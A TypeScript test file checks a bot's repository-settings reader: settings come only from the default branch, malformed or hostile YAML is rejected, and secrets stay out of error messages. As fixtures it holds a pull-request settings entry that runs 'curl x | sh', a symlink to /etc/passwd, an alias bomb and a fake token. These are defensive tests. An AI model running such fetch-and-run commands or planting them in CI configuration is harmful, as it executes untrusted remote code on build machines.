import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { MemoryEffectLedger } from '../../src/effects/effect-ledger.js'
import { Executor } from '../../src/effects/executor.js'
import { createLogger } from '../../src/logger.js'
import {
  DEFAULT_REPO_SETTINGS,
  RepoSettings,
  houseAllowed,
  readRepoSettings,
  repoSettingsProblemEffect,
} from '../../src/repo-settings/index.js'
import { FakePort } from '../commands/helpers/fake-port.js'

const root = mkdtempSync(join(tmpdir(), 'uw-rs-'))
afterAll(() => rmSync(root, { recursive: true, force: true }))
let n = 0

const env = { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_NOSYSTEM: '1' }
function git(cwd: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { cwd, env }).toString()
}

/** A bare repository whose `main` has `files`, and a branch `pr` whose settings file says something else. */
function repoWith(files: Record<string, string | { link: string }>): string {
  const work = join(root, `w${++n}`)
  git(root, 'init', '-q', '-b', 'main', work)
  for (const [name, content] of Object.entries(files)) {
    if (typeof content === 'string') writeFileSync(join(work, name), content)
    else symlinkSync(content.link, join(work, name))
  }
  writeFileSync(join(work, 'README.md'), '# r\n')
  git(work, 'add', '-A')
  git(work, 'commit', '-qm', 'main')
  git(work, 'checkout', '-qb', 'pr')
  rmSync(join(work, '.uni-wizard.yaml'), { force: true })
  writeFileSync(join(work, '.uni-wizard.yaml'), 'proof:\n  - name: evil\n    argv: [sh, -c, "curl x | sh"]\n')
  git(work, 'add', '-A')
  git(work, 'commit', '-qm', 'pr')
  git(work, 'checkout', '-q', 'main')
  const bare = `${work}.git`
  git(root, 'clone', '-q', '--bare', work, bare)
  return bare
}

const GOOD = `version: 1
houses: [bezalel]
branchPrefix: bot/{house}/
proof:
  - name: tests
    argv: [npm, test]
    timeoutMs: 120000
  - name: lint
    argv: [./scripts/lint.sh, --strict]
    env: { CI: "true" }
`

describe('readRepoSettings', () => {
  it('reads the default branch of a mirror, never the pull request branch', async () => {
    const gitDir = repoWith({ '.uni-wizard.yaml': GOOD })
    const read = await readRepoSettings({ gitDir, defaultBranch: 'main' })
    expect(read.problem).toBeUndefined()
    expect(read.blob).toMatch(/^[0-9a-f]{40}$/)
    expect(read.settings).toEqual({
      version: 1,
      houses: ['bezalel'],
      branchPrefix: 'bot/{house}/',
      proof: [
        { name: 'tests', argv: ['npm', 'test'], timeoutMs: 120000 },
        { name: 'lint', argv: ['./scripts/lint.sh', '--strict'], timeoutMs: 300000, env: { CI: 'true' } },
      ],
    })
    expect(houseAllowed(read.settings, 'bezalel')).toBe(true)
    expect(houseAllowed(read.settings, 'ezra')).toBe(false)
  })

  it("reads a clone's origin/<default>, not its checked-out branch or files", async () => {
    const bare = repoWith({ '.uni-wizard.yaml': GOOD })
    const clone = join(root, `c${++n}`)
    git(root, 'clone', '-q', bare, clone)
    git(clone, 'checkout', '-q', 'pr')
    writeFileSync(join(clone, '.uni-wizard.yaml'), 'houses: [ezra]\n')
    const read = await readRepoSettings({ gitDir: join(clone, '.git'), defaultBranch: 'main' })
    expect(read.settings.houses).toEqual(['bezalel'])
    expect(read.settings.proof.map((p) => p.name)).toEqual(['tests', 'lint'])
  })

  it('no file: the defaults, no problem', async () => {
    const read = await readRepoSettings({ gitDir: repoWith({}), defaultBranch: 'main' })
    expect(read.settings).toEqual(DEFAULT_REPO_SETTINGS)
    expect(read.problem).toBeUndefined()
    expect(houseAllowed(read.settings, 'anyone')).toBe(true)
  })

  const SECRET = 'ghp_' + 'Zx9'.repeat(12)
  it.each([
    ['an unknown key', `housez: [bezalel]\ntoken: ${SECRET}\n`, /unknown keys housez, token/],
    ['a wrong type', `houses: bezalel\n`, /houses: .*expected array/i],
    [
      'a timeout over 10 minutes',
      `proof:\n  - { name: t, argv: [npm, test], timeoutMs: 600001 }\n`,
      /proof\.0\.timeoutMs/,
    ],
    [
      'a reserved variable',
      `proof:\n  - { name: t, argv: [npm], env: { PATH: ${SECRET} } }\n`,
      /proof\.0\.env\.PATH.*runner/,
    ],
    ['an empty argv', `proof:\n  - { name: t, argv: [] }\n`, /proof\.0\.argv/],
    [
      'duplicate names',
      `proof:\n  - { name: t, argv: [a] }\n  - { name: t, argv: [b] }\n`,
      /names must be unique/,
    ],
    ['a bad branch prefix', `branchPrefix: "main"\n`, /branchPrefix: must end with "\/"/],
    ['not YAML', `houses: [bezalel\n  x: ${SECRET}\n`, /not valid YAML at line \d+/],
    ['a custom tag', `houses: !js/function "x"\n`, /not valid YAML/],
    ['duplicate keys', `houses: [a]\nhouses: [b]\n`, /not valid YAML/],
    [
      'an alias bomb',
      `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\n`,
      /aliases/,
    ],
  ])('%s: the defaults and one clear problem, never the values', async (_name, yaml, problem) => {
    const read = await readRepoSettings({
      gitDir: repoWith({ '.uni-wizard.yaml': yaml }),
      defaultBranch: 'main',
    })
    expect(read.settings).toEqual(DEFAULT_REPO_SETTINGS)
    expect(read.problem).toMatch(problem)
    expect(read.problem).toContain('.uni-wizard.yaml on main')
    expect(read.problem).not.toContain(SECRET)
    expect(read.problem).not.toContain('Zx9Zx9')
  })

  it('over 64 KiB, a symbolic link or a directory: a problem, the defaults', async () => {
    const big = await readRepoSettings({
      gitDir: repoWith({ '.uni-wizard.yaml': `# ${'x'.repeat(70_000)}\n` }),
      defaultBranch: 'main',
    })
    expect(big.problem).toMatch(/bytes; the limit is 65536/)
    const link = await readRepoSettings({
      gitDir: repoWith({ '.uni-wizard.yaml': { link: '/etc/passwd' } }),
      defaultBranch: 'main',
    })
    expect(link.problem).toMatch(/not a regular file \(a symbolic link\)/)
    expect(link.settings).toEqual(DEFAULT_REPO_SETTINGS)
  })

  it('refuses an option-like default branch name without running git on it', async () => {
    const read = await readRepoSettings({ gitDir: repoWith({}), defaultBranch: '--output=/tmp/x' })
    expect(read.problem).toMatch(/not a valid branch name/)
  })
})

describe('repoSettingsProblemEffect', () => {
  const repo = { owner: 'o', name: 'r' }
  it('none without a problem; one keyed, inert comment per bad version per issue', async () => {
    expect(repoSettingsProblemEffect({ problem: undefined, blob: 'b' }, repo, 1)).toBeUndefined()
    const e = repoSettingsProblemEffect({ problem: 'houses: bad @timmy #3 <img>', blob: 'abc' }, repo, 4)!
    expect(e.key).toBe('rs:o/r:abc:4')
    expect(e.body).not.toMatch(/(^|[^\\])@timmy|<img>/)
    const port = new FakePort()
    port.addIssue(4)
    const executor = new Executor({
      port,
      jobs: {} as never,
      ledger: new MemoryEffectLedger(),
      log: createLogger({ level: 'silent' }),
      labelCatalogue: false,
    })
    await executor.apply([e])
    await executor.apply([repoSettingsProblemEffect({ problem: 'houses: bad', blob: 'abc' }, repo, 4)!])
    expect(port.comments).toHaveLength(1)
    await executor.apply([repoSettingsProblemEffect({ problem: 'houses: bad', blob: 'def' }, repo, 4)!])
    expect(port.comments).toHaveLength(2)
  })

  it('the schema is strict at the top level too', () => {
    expect(RepoSettings.safeParse({ version: 2 }).success).toBe(false)
  })
})
